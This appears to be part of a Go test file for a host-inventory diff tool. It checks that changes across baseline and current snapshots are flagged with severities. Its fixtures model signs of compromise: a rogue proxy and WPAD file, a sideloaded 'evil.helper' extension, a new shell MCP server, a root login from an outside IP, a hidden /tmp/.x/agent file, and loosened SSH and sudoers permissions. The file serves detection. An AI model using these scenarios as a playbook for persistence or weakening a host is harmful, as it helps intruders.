+		pkg("pipx", "black", "24.1.0"),
+		pkg("cargo", "ripgrep", "14.1.0"),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	sort.Strings(got)
+	want := []string{"added Software cargo:ripgrep", "changed Software npm:@vue/cli", "removed Software gem:rake"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("language_packages changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_AppStoreAppChanges(t *testing.T) {
+	app := func(name, version, bundleID, adamID string) map[string]any {
+		return map[string]any{"name": name, "version": version, "bundle_id": bundleID, "adam_id": adamID, "path": "/Applications/" + name + ".app"}
+	}
+	baselineRows := []Row{{"type": "app_store_apps", "items": []any{
+		app("Things", "3.20", "com.culturedcode.ThingsMac", "904280696"),
+		app("Keynote", "14.0", "com.apple.iWork.Keynote", "409183694"),
+	}}}
+	currentRows := []Row{{"type": "app_store_apps", "items": []any{
+		app("Things", "3.21", "com.culturedcode.ThingsMac", "904280696"),
+		app("Magnet", "2.14", "com.crowdcafe.windowmagnet", "441258766"),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	sort.Strings(got)
+	want := []string{"added Software com.crowdcafe.windowmagnet", "changed Software com.culturedcode.ThingsMac", "removed Software com.apple.iWork.Keynote"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("app_store_apps changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_RuntimeChanges(t *testing.T) {
+	runtime := func(name, version, path, manager string, active bool) map[string]any {
+		return map[string]any{"runtime": name, "version": version, "path": path, "manager": manager, "active": active}
+	}
+	baselineRows := []Row{{"type": "runtimes", "items": []any{
+		runtime("node", "18.19.0", "~/.nvm/versions/node/v18.19.0/bin/node", "nvm", true),
+		runtime("python3", "3.11.2", "/usr/bin/python3.11", "system", true),
+	}}}
+	currentRows := []Row{{"type": "runtimes", "items": []any{
+		runtime("node", "18.19.0", "~/.nvm/versions/node/v18.19.0/bin/node", "nvm", false),
+		runtime("node", "22.2.0", "~/.nvm/versions/node/v22.2.0/bin/node", "nvm", true),
+		runtime("python3", "3.11.9", "/usr/bin/python3.11", "system", true),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	sort.Strings(got)
+	want := []string{"added Software node:~/.nvm/versions/node/v22.2.0/bin/node", "changed Software python3:/usr/bin/python3.11"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("runtimes changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_USBDeviceChanges(t *testing.T) {
+	device := func(vid, pid, serial string, classes ...any) map[string]any {
+		return map[string]any{"vendor_id": vid, "product_id": pid, "vendor": "", "product": "", "serial": serial, "classes": classes}
+	}
+	baselineRows := []Row{
+		{"type": "usb_devices", "items": []any{device("046d", "c52b", "", "hid"), device("0781", "5581", "AA01", "mass_storage")}},
+		{"type": "removable_volumes", "items": []any{}},
+	}
+	currentRows := []Row{
+		{"type": "usb_devices", "items": []any{device("046d", "c52b", "", "hid", "mass_storage"), device("03eb", "2401", "", "hid")}},
+		{"type": "removable_volumes", "items": []any{map[string]any{"mount": "/media/me/STICK", "device": "/dev/sdb1", "fstype": "vfat", "encryption": "none", "encrypted": false}}},
+	}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key+" "+c.Severity)
+	}
+	sort.Strings(got)
+	want := []string{"added Security 03eb:2401: high", "added Storage /media/me/STICK ", "changed Security 046d:c52b: high", "removed Security 0781:5581:AA01 "}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("usb_devices and removable_volumes changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_ProxySettingChanges(t *testing.T) {
+	proxy := func(source, scheme, value string) map[string]any {
+		return map[string]any{"source": source, "scheme": scheme, "value": value}
+	}
+	baselineRows := []Row{
+		{"type": "proxy_settings", "items": []any{proxy("environment", "no", "localhost"), proxy("gnome", "http", "proxy.corp:3128")}},
+		{"type": "network_context", "id": "3f9a1c0b22de", "ssid": "Home", "vpn": false},
+	}
+	currentRows := []Row{
+		{"type": "proxy_settings", "items": []any{proxy("environment", "no", "localhost"), proxy("gnome", "http", "10.0.0.66:8080"), proxy("gnome", "pac", "http://wpad/wpad.dat")}},
+		{"type": "network_context", "id": "a41c07d9e5f2", "ssid": "CoffeeShop", "vpn": false},
+	}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key+" "+c.Severity)
+	}
+	sort.Strings(got)
+	want := []string{"added Network gnome:pac high", "changed Network gnome:http high"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("proxy_settings changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_BackgroundItemChanges(t *testing.T) {
+	item := func(user, typ, identifier, executable string, enabled bool) map[string]any {
+		return map[string]any{"user": user, "type": typ, "name": identifier, "identifier": identifier, "developer": "Docker Inc", "team_id": "9BNSXJN65R", "path": "", "executable": executable, "parent": "", "enabled": enabled, "allowed": true}
+	}
+	baselineRows := []Row{{"type": "background_items", "source": "btm", "items": []any{item("alice", "app", "2.com.docker.docker", "", true)}}}
+	currentRows := []Row{{"type": "background_items", "source": "btm", "items": []any{
+		item("alice", "app", "2.com.docker.docker", "", false),
+		item("system", "daemon", "16.com.example.updater", "/Library/PrivilegedHelperTools/com.example.updater", true),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	sort.Strings(got)
+	want := []string{"added Persistence system:16.com.example.updater", "changed Persistence alice:2.com.docker.docker"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("background_items changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_BackgroundTaskChanges(t *testing.T) {
+	task := func(kind, name, status, path, sha string) map[string]any {
+		return map[string]any{"kind": kind, "name": name, "user": "alice", "status": status, "path": path, "sha256": sha}
+	}
+	baselineRows := []Row{{"type": "background_tasks", "items": []any{
+		task("brew_service", "redis", "none", "", ""),
+		task("log_rotation", "/etc/newsyslog.d/wifi.conf", "", "/etc/newsyslog.d/wifi.conf", "aa"),
+	}}}
+	currentRows := []Row{{"type": "background_tasks", "items": []any{
+		task("brew_service", "redis", "started", "~/Library/LaunchAgents/homebrew.mxcl.redis.plist", "bb"),
+		task("brew_service", "postgresql@16", "started", "~/Library/LaunchAgents/homebrew.mxcl.postgresql@16.plist", "cc"),
+		task("log_rotation", "/etc/newsyslog.d/wifi.conf", "", "/etc/newsyslog.d/wifi.conf", "aa"),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	sort.Strings(got)
+	want := []string{"added Persistence brew_service:alice:postgresql@16", "changed Persistence brew_service:alice:redis"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("background_tasks changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_SensitiveDirLoosened(t *testing.T) {
+	dir := func(path, owner, group, mode string) map[string]any {
+		return map[string]any{"path": path, "owner": owner, "group": group, "mode": mode}
+	}
+	baselineRows := []Row{{"type": "sensitive_dirs", "items": []any{
+		dir("~/.ssh", "alice", "staff", "700"),
+		dir("/etc/sudoers.d", "root", "root", "750"),
+		dir("/usr/local/bin", "root", "wheel", "755"),
+		dir("/tmp/drop", "root", "root", "1777"),
+		dir("~/.gnupg", "alice", "staff", "755"),
+		dir("/etc/ssh", "root", "root", "755"),
+	}}}
+	currentRows := []Row{{"type": "sensitive_dirs", "items": []any{
+		dir("~/.ssh", "alice", "staff", "740"),
+		dir("/etc/sudoers.d", "root", "admin", "750"),
+		dir("/usr/local/bin", "alice", "wheel", "755"),
+		dir("/tmp/drop", "root", "root", "777"),
+		dir("~/.gnupg", "alice", "staff", "700"),
+		dir("/etc/ssh", "root", "adm", "705"),
+	}}}
+
+	got := map[string]string{}
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got[c.Key] = c.Status + " " + c.Severity
+	}
+	want := map[string]string{
+		"~/.ssh":         "changed high", // group-readable
+		"/etc/sudoers.d": "changed high", // new group can read the rules
+		"/usr/local/bin": "changed high", // new owner
+		"/tmp/drop":      "changed high", // lost the sticky bit
+		"~/.gnupg":       "changed ",     // tightened
+		"/etc/ssh":       "changed ",     // new group has no access
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("sensitive_dirs changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_SecretsAgentLosesConstraints(t *testing.T) {
+	agent := func(keys float64, lifetime string, confirm bool) map[string]any {
+		return map[string]any{"agent": "ssh-agent", "socket": "/tmp/ssh-x/agent.1", "keys": keys, "lifetime": lifetime, "confirm": confirm, "unconstrained": lifetime == "" && !confirm}
+	}
+	baselineRows := []Row{{"type": "secrets_agents", "items": []any{agent(1, "1h", false)}}}
+	// Loading another key is not a change; dropping the lifetime is.
+	sameRows := []Row{{"type": "secrets_agents", "items": []any{agent(2, "1h", false)}}}
+	if got := BuildInventoryChanges(baselineRows, sameRows); len(got) != 0 {
+		t.Errorf("key count change reported: %+v", got)
+	}
+	currentRows := []Row{{"type": "secrets_agents", "items": []any{agent(2, "", false)}}}
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	if want := []string{"changed Identity ssh-agent"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("secrets_agents changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_DevToolchainChanges(t *testing.T) {
+	tool := func(name, version, source string) map[string]any {
+		return map[string]any{"tool": name, "version": version, "path": "/usr/bin/" + name, "source": source}
+	}
+	baselineRows := []Row{{"type": "dev_toolchains", "items": []any{tool("git", "2.39.5", "dpkg:git"), tool("node", "16.20.2", "dpkg:nodejs")}}}
+	currentRows := []Row{{"type": "dev_toolchains", "items": []any{tool("git", "2.39.5", "dpkg:git"), tool("node", "20.19.5", "nvm"), tool("go", "1.24.0", "manual")}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	sort.Strings(got)
+	if want := []string{"added Software go", "changed Software node"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("dev_toolchains changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_IDEExtensionPublisherChange(t *testing.T) {
+	ext := func(id, version, publisherID, source string) map[string]any {
+		return map[string]any{"user": "alice", "ide": "vscode", "id": id, "version": version, "publisher": "Acme", "publisher_id": publisherID, "source": source, "marketplace": "marketplace.visualstudio.com"}
+	}
+	baselineRows := []Row{{"type": "ide_extensions", "items": []any{ext("acme.lint", "1.0.0", "p1", "gallery"), ext("ms-python.python", "2024.1.0", "p2", "gallery")}}}
+	// An auto-update is not reported; a new owner and a sideloaded extension are.
+	currentRows := []Row{{"type": "ide_extensions", "items": []any{ext("acme.lint", "1.0.1", "p9", "gallery"), ext("ms-python.python", "2024.2.0", "p2", "gallery"), ext("evil.helper", "0.0.1", "", "vsix")}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Key+" "+c.Severity)
+	}
+	sort.Strings(got)
+	if want := []string{"added alice:vscode:evil.helper high", "changed alice:vscode:acme.lint high"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("ide_extensions changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_MCPServerChanges(t *testing.T) {
+	server := func(name, command string, paths ...any) map[string]any {
+		return map[string]any{"user": "alice", "client": "claude-desktop", "config": "~/.config/Claude/claude_desktop_config.json", "name": name, "transport": "stdio", "enabled": true, "command": command, "args": "", "url": "", "paths": paths, "env": []any{}}
+	}
+	agent := map[string]any{"agent": "ollama", "name": "ollama", "user": "alice", "pid": 812.0, "processes": 1.0, "command": "ollama serve"}
+	restarted := map[string]any{"agent": "ollama", "name": "ollama", "user": "alice", "pid": 1907.0, "processes": 2.0, "command": "ollama serve"}
+	baselineRows := []Row{
+		{"type": "mcp_servers", "items": []any{server("filesystem", "npx", "~/Projects")}},
+		{"type": "ai_agents", "items": []any{agent}},
+	}
+	currentRows := []Row{
+		{"type": "mcp_servers", "items": []any{server("filesystem", "npx", "~/Projects", "/"), server("shell", "shell-mcp")}},
+		{"type": "ai_agents", "items": []any{restarted, map[string]any{"agent": "claude-code", "name": "claude-code", "user": "alice", "pid": 2210.0, "processes": 1.0, "command": "claude"}}},
+	}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.RowType+" "+c.Status+" "+c.Key+" "+c.Severity)
+	}
+	sort.Strings(got)
+	want := []string{
+		"ai_agents added claude-code:claude-code:alice ",
+		"mcp_servers added alice:claude-desktop:shell high",
+		"mcp_servers changed alice:claude-desktop:filesystem high",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("AI tooling changes = %q, want %q", got, want)
+	}
+}
+
+func TestRun_PathHijackChanges(t *testing.T) {
+	dir := func(index float64, path, mode string, issues ...any) map[string]any {
+		return map[string]any{"index": index, "path": path, "owner": "root", "mode": mode, "issues": issues}
+	}
+	baselineRows := []Row{{"type": "path_hijack", "items": []any{dir(1, "/usr/local/bin", "755", "untrusted_before_system")}}}
+	currentRows := []Row{
+		{"type": "path_hijack", "items": []any{
+			dir(2, "/usr/local/bin", "775", "group_writable", "untrusted_before_system"),
+			dir(3, "/tmp/ww", "777", "world_writable"),
+		}},
+		{"type": "warning", "code": "path_world_writable", "path": "/tmp/ww"},
+	}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key+" "+c.Severity)
+	}
+	sort.Strings(got)
+	if want := []string{"added Security /tmp/ww high", "changed Security /usr/local/bin high"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("path_hijack changes = %v, want %v", got, want)
+	}
+	if _, ok := CollectWarningCodes(currentRows)["path_world_writable"]; !ok {
+		t.Error("path_world_writable warning not collected")
+	}
+}
+
+func TestRun_RecentLoginsAndChanges(t *testing.T) {
+	login := func(user, host, at string, active bool) map[string]any {
+		return map[string]any{"user": user, "tty": "pts/0", "host": host, "login": at, "active": active}
+	}
+	baselineRows := []Row{
+		{"type": "recent_logins", "items": []any{login("alice", "", "2026-10-15T08:00:00+00:00", true)}},
+		{"type": "recent_changes", "hours": float64(24), "items": []any{map[string]any{"path": "/etc/hosts", "modified": "2026-10-15T07:00:00+0000"}}},
+	}
+	currentRows := []Row{
+		{"type": "recent_logins", "items": []any{
+			login("alice", "", "2026-10-15T08:00:00+00:00", false),
+			login("root", "203.0.113.9", "2026-10-16T03:12:00+00:00", true),
+		}},
+		{"type": "recent_changes", "hours": float64(24), "items": []any{
+			map[string]any{"path": "/etc/hosts", "modified": "2026-10-15T07:00:00+0000"},
+			map[string]any{"path": "/tmp/.x/agent", "modified": "2026-10-16T03:13:00+0000"},
+		}},
+	}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	sort.Strings(got)
+	want := []string{
+		"added Identity root:pts/0:2026-10-16T03:12:00+00:00",
+		"added Persistence /tmp/.x/agent",
+		"changed Identity alice:pts/0:2026-10-15T08:00:00+00:00",
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("triage changes = %v, want %v", got, want)
+	}
+}
+
+func TestWriteTable(t *testing.T) {
+	rows := []Row{
+		{"type": "diff", "diff_type": "count", "field": "broken_symlinks", "baseline": float64(3), "current": float64(12)},
+		{"type": "diff", "diff_type": "inventory", "status": "changed", "row_type": "listening_ports", "key": "sshd:22",
+			"baseline": map[string]any{"bind": "127.0.0.1", "pid": float64(10)}, "current": map[string]any{"bind": "0.0.0.0", "pid": float64(10)}},
+		{"type": "diff", "diff_type": "inventory", "status": "added", "row_type": "local_users", "key": "backup", "current": map[string]any{"uid": float64(0)}},
+		{"type": "diff", "diff_type": "new_warnings", "codes": []any{"sip_disabled", "firewall_off"}},
+	}
+	var buf bytes.Buffer
+	if err := WriteTable(&buf, rows); err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(strings.TrimRight(buf.String(), "\n"), "\n")
+	want := [][]string{
+		{"CHANGE", "SUBJECT", "BASELINE", "CURRENT"},
+		{"count", "broken_symlinks", "3", "12"},
+		{"inventory changed", "listening_ports sshd:22", "bind=127.0.0.1", "bind=0.0.0.0"},
+		{"inventory added", "local_users backup", "-", "present"},
+		{"new_warnings", "sip_disabled, firewall_off", "-", "-"},
+	}
+	if len(lines) != len(want) {
+		t.Fatalf("table =\n%s", buf.String())
+	}
+	for i, cells := range want {
+		for _, c := range cells {
+			if !strings.Contains(lines[i], c) {
+				t.Errorf("line %d = %q, want it to contain %q", i, lines[i], c)
+			}
+		}
+	}
+}